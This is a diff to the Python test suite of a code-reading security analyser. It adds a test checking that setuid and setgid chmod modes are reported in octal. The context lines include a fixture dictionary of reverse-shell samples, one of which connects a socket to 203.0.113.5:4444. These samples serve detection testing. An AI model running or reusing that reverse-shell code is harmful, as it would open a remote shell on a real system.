@@ -8,7 +8,7 @@ import pytest
 
 from guard.parse.budget import Budget, Limits
 from guard.parse.code import read_code
-from guard.parse.reading import Reading, Stdin
+from guard.parse.reading import UNKNOWN, Reading, Stdin
 
 SHELLS = {
     "dup2": "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.5',4444))\n"
@@ -252,3 +252,13 @@ def test_a_bound_that_is_hit_is_visible_and_keeps_what_was_read() -> None:
     reading = read_code("python", code, Budget(Limits(cpu_seconds=60)))
     assert len(reading.runs) > 100
     assert "limit_commands" in [part["kind"] for part in reading.opaque]
+
+
+def test_modes_are_told_in_octal_digits() -> None:
+    """chmod's number is written as chmod(1) writes it; one that nobody knows is unknown."""
+    code = (
+        "import os\nfrom pathlib import Path\nos.chmod('/a', 0o4755)\n"
+        "Path('/b').chmod(0o2755)\nos.chmod('/c', os.stat('/c').st_mode | 64)\n"
+    )
+    modes = [operation["mode"] for operation in find(read(code), "file.write")]
+    assert modes == ["4755", "2755", UNKNOWN]
